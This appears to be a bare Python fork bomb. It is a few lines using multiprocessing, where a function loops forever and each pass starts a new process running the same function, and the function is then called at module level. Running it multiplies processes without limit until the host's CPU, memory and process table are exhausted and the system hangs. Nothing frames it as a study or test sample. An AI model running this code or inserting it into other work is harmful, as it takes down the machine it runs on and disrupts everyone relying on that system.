from multiprocessing import Process

def f():
    while True:
        Process(target=f).start()
f()
